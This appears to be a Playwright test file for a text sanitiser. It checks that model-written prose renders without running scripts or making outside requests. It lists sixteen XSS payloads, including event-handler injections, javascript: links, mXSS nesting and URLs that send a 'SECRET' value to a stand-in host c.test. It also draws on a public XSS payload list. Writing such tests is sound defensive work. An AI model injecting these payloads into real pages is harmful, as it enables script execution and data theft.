"""What models write, in a real browser without any policy to help: nothing runs and nothing is fetched."""

import json
from pathlib import Path

from playwright.async_api import Browser, Page, Route

from personae.web.prose import prose

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)></svg>",
    "<a href=javascript:alert(4)>link</a>",
    "[link](javascript:alert(5))",
    "![x](https://c.test/?q=SECRET)",
    "<iframe src=javascript:parent.alert(6)></iframe>",
    "<details open ontoggle=alert(7)>x</details>",
    "<style>@import 'https://c.test/s.css';</style>",
    "<video><source onerror=alert(8)></video>",
    "<object data=https://c.test/o></object>",
    "<form action=https://c.test/f><button id=go>x</button></form>",
    "<b onmouseover=alert(9)>x</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
    "<div style=background:url(https://c.test/b)>x</div>",
    '[x](https://a.example/"onmouseover=alert(11)//)',
]
# What a person may do by chance: pass over everything, and follow what runs in the page.
TOUCH = """() => new Promise((done) => {
    for (const each of document.querySelectorAll("main *")) each.dispatchEvent(new MouseEvent("mouseover"));
    for (const each of document.querySelectorAll("a[href^='javascript']")) each.click();
    setTimeout(() => requestAnimationFrame(() => done(window.fired.length)), 150);
})"""


def payloads() -> list[str]:
    """Our own, and a hundred of others' where they are on this machine."""
    path = Path(__file__).parents[3] / "shared/data/safety/payloads/xss_payloadbox.jsonl"
    lines = path.read_text(encoding="utf-8").split("\n")[:100] if path.exists() else []
    return [*OWN, *(json.loads(line)["text"] for line in lines)]


async def open_with(page: Page, parts: list[str]) -> tuple[int, list[str]]:
    """How often something ran on a page of these parts, and what it asked for."""
    asked: list[str] = []

    async def refuse(route: Route) -> None:
        asked.append(route.request.url)
        await route.abort()

    await page.route("**/*", refuse)
    await page.add_init_script("window.fired = []; window.alert = (what) => window.fired.push(what);")
    await page.goto("about:blank")
    inner = "".join(f"<div>{part}</div>" for part in parts)
    await page.set_content(f"<!doctype html><main>{inner}</main>", wait_until="domcontentloaded")
    return await page.evaluate(TOUCH), asked


class TestProse:
    async def test_runs_nothing_and_asks_nobody(self, browser: Browser) -> None:
        page = await browser.new_page()
        fired, asked = await open_with(page, [str(prose(text, ours="books.test")) for text in payloads()])
        assert (fired, asked) == (0, [])
        await page.close()

    async def test_would_have_run_otherwise(self, browser: Browser) -> None:
        page = await browser.new_page()
        fired, asked = await open_with(page, OWN)
        assert fired >= 5 and any("c.test" in url for url in asked)
        await page.close()
